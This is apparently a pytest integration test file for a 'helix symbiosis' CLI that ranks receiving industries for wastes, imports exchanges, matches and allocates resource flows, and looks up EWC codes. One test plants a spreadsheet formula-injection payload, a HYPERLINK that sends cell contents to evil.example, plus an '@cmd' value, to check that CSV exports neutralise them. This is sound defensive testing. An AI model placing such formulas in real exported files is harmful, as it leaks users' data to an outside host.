"""Integration: ``helix symbiosis`` (helix.cli.symbiosis): rank-receivers on MAESTRI-layout files, import
exchanges, match and allocate (their files write formula-like text inert; a failed allocation leaves no
run), and the waste-code commands."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from helix.cli import main
from helix.symbiosis import receivers
from helix.symbiosis.models import AllocationRun, DocumentedExchange, ResourceFlow
from tests.helpers.exchanges import corpus
from tests.symbiosis.helpers import world

pytestmark = [pytest.mark.integration, pytest.mark.django_db]


ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def rank_receivers(learn: Path, queries: Path, *options: str) -> Result:
    """``helix symbiosis rank-receivers`` learning from ``learn``, ranking ``queries``."""
    args = ["--learn-from", str(learn), "--queries", str(queries), *options]
    return CliRunner().invoke(main, ["symbiosis", "rank-receivers", *args])


def test_cli_proposals_and_allocation_write_formula_text_inert(tmp_path):
    w = world()
    ResourceFlow.objects.filter(pk=w.heat.pk).update(title=ATTACK)
    ResourceFlow.objects.filter(pk=w.heat_want.pk).update(title="@cmd heating")
    runner = CliRunner()
    proposals, allocation = tmp_path / "proposals.csv", tmp_path / "allocation.csv"

    matched = runner.invoke(main, ["symbiosis", "match", "--as", "officer", "--output", str(proposals)])
    allocated = runner.invoke(
        main,
        [
            "symbiosis",
            "allocate",
            "--region",
            "oost-vlaanderen",
            "--as",
            "officer",
            "--output",
            str(allocation),
        ],
    )

    assert (matched.exit_code, allocated.exit_code) == (0, 0), matched.output + allocated.output
    heat = [r for r in csv.DictReader(io.StringIO(proposals.read_text())) if r["want"] == "'@cmd heating"]
    assert [r["have"] for r in heat] == ["'" + ATTACK]
    assert float(heat[0]["score"]) > 0
    assigned = list(csv.DictReader(io.StringIO(allocation.read_text())))
    assert [(a["have"], a["want"]) for a in assigned] == [("'" + ATTACK, "'@cmd heating")]


def test_rank_receivers_writes_the_agreed_columns(tmp_path) -> None:
    learn = tmp_path / "exchanges.csv"
    learn.write_text(corpus(), encoding="utf-8")
    queries = tmp_path / "queries.csv"
    queries.write_text(
        "NACE code - Providing industry,Waste description,EWC code\n"
        "2410,steel slag,100202\n1920,fuel gas,050799\n,,\n",
        encoding="utf-8",
    )
    out = tmp_path / "ranks.csv"
    result = rank_receivers(learn, queries, "--top", "3", "--output", str(out), "--encoder", "hashing")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert list(rows[0]) == ["query_index", "rank", "nace_code", "score"]
    assert len(rows) == 9  # three queries (even the empty one keeps its index) x top 3
    assert [(r["query_index"], r["rank"]) for r in rows[:3]] == [("0", "1"), ("0", "2"), ("0", "3")]
    assert rows[0]["nace_code"] == "2351"
    assert rows[3]["nace_code"] == "3511"
    assert float(rows[0]["score"]) >= float(rows[1]["score"])
    assert {r["query_index"] for r in rows} == {"0", "1", "2"}


def test_rank_receivers_falls_back_to_the_literature_and_to_popularity_for_an_undocumented_waste(
    tmp_path,
) -> None:
    learn = tmp_path / "exchanges.csv"
    learn.write_text(corpus(), encoding="utf-8")  # slag, organic waste, fuel gas, whey; no paper
    queries = tmp_path / "queries.csv"
    queries.write_text("NACE code - Providing industry,Waste description,EWC code\n1712,cardboard,150101\n")
    result = rank_receivers(learn, queries, "--top", "5")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    # the receivers in most cases first, then the two the literature names for paper packaging
    assert [r["nace_code"] for r in rows] == ["2351", "3511", "3521", "1711", "1712"]
    assert "(EWC backoff + prior 0.3)" in result.stderr


def test_rank_receivers_names_a_missing_column(tmp_path) -> None:
    learn = tmp_path / "exchanges.csv"
    learn.write_text("Case Number,Waste description\n1,slag\n", encoding="utf-8")
    result = rank_receivers(learn, learn)
    assert result.exit_code != 0
    assert "column(s) missing" in result.output
    assert "NACE code - Providing industry" in result.output


def test_import_exchanges_is_atomic_and_teaches_the_matcher(tmp_path) -> None:
    good = tmp_path / "good.csv"
    good.write_text(corpus(), encoding="utf-8")
    result = CliRunner().invoke(main, ["symbiosis", "import-exchanges", str(good)])
    assert result.exit_code == 0, result.output
    assert DocumentedExchange.objects.count() == 28
    broken = tmp_path / "good.csv"
    broken.write_text(corpus() + "9,2410,slag,100202,,\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["symbiosis", "import-exchanges", str(broken)])
    assert result.exit_code != 0
    assert "line 30" in result.output
    assert DocumentedExchange.objects.count() == 28  # nothing half-written, the earlier import kept
    model = receivers.receiver_model()
    assert model is not None
    assert "2351" in model.labels


def test_match_and_allocate_from_the_cli(tmp_path) -> None:
    world()
    runner = CliRunner()
    refused = runner.invoke(main, ["symbiosis", "match"])
    assert refused.exit_code != 0
    assert "--as USERNAME" in refused.output
    assert runner.invoke(main, ["symbiosis", "match", "--as", "steel"]).exit_code != 0
    out = tmp_path / "proposals.csv"
    done = runner.invoke(main, ["symbiosis", "match", "--as", "officer", "--output", str(out)])
    assert done.exit_code == 0, done.output
    assert "proposals" in done.output
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert any(r["have"] == "Blast furnace slag" and r["want_owner"] == "Cement Antwerpen" for r in rows)
    alloc = tmp_path / "allocation.csv"
    region = runner.invoke(
        main,
        ["symbiosis", "allocate", "--region", "oost-vlaanderen", "--as", "officer", "--output", str(alloc)],
    )
    assert region.exit_code == 0, region.output
    assert "optimal (" in region.output
    assert "greedy nearest-match" in region.output
    assigned = list(csv.DictReader(io.StringIO(alloc.read_text())))
    # only Oost-Vlaanderen: the grower takes the chemical plant's heat; the Antwerp cement plant is outside
    assert [(a["have"], a["want"]) for a in assigned] == [("Cooling water heat", "Greenhouse heating")]
    assert AllocationRun.objects.get(region="oost-vlaanderen").result["optimal"]["optimal"]
    # the officer is the chemical company's cluster staff: names shown; a member's export would withhold them
    assert assigned[0]["have_owner"] == "Geheim Chemie"


def test_ewc_commands() -> None:
    runner = CliRunner()
    found = runner.invoke(main, ["symbiosis", "ewc", "search", "end", "of", "life", "tyres"])
    assert found.exit_code == 0
    assert "16 01 03" in found.output
    shown = runner.invoke(main, ["symbiosis", "ewc", "show", "10 02 02"])
    assert (
        "10 Wastes from thermal processes" in shown.output.replace("  ", " ")
        or "Unprocessed slag" in shown.output
    )
    assert runner.invoke(main, ["symbiosis", "ewc", "show", "99 99 99"]).exit_code != 0


def test_rank_receivers_leaves_out_unlabelled_learning_rows_and_says_so(tmp_path) -> None:
    learn = tmp_path / "exchanges.csv"
    learn.write_text(corpus() + "9,2410,slag,100202,,\n", encoding="utf-8")
    queries = tmp_path / "queries.csv"
    queries.write_text("NACE code - Providing industry,Waste description,EWC code\n2410,slag,100202\n")
    result = rank_receivers(learn, queries, "--top", "1", "--encoder", "none")
    assert result.exit_code == 0, result.output
    assert "1 rows without a receiving industry or a waste left out (lines 30)" in result.output
    assert "0,1,2351," in result.output


def test_a_failed_cli_allocation_leaves_no_run_behind() -> None:
    from helix.core.symbiosis import AllocationError

    def crashing_solver(*args: object, **kwargs: object) -> None:
        raise AllocationError("solver crashed")

    world()
    fake = {"solve": crashing_solver}  # the solver the command hands to the service, as other tests pass one
    result = CliRunner().invoke(main, ["symbiosis", "allocate", "--as", "officer"], obj=fake)
    assert result.exit_code != 0
    assert "solver crashed; earlier allocations are unchanged" in result.output
    assert not AllocationRun.objects.exists()
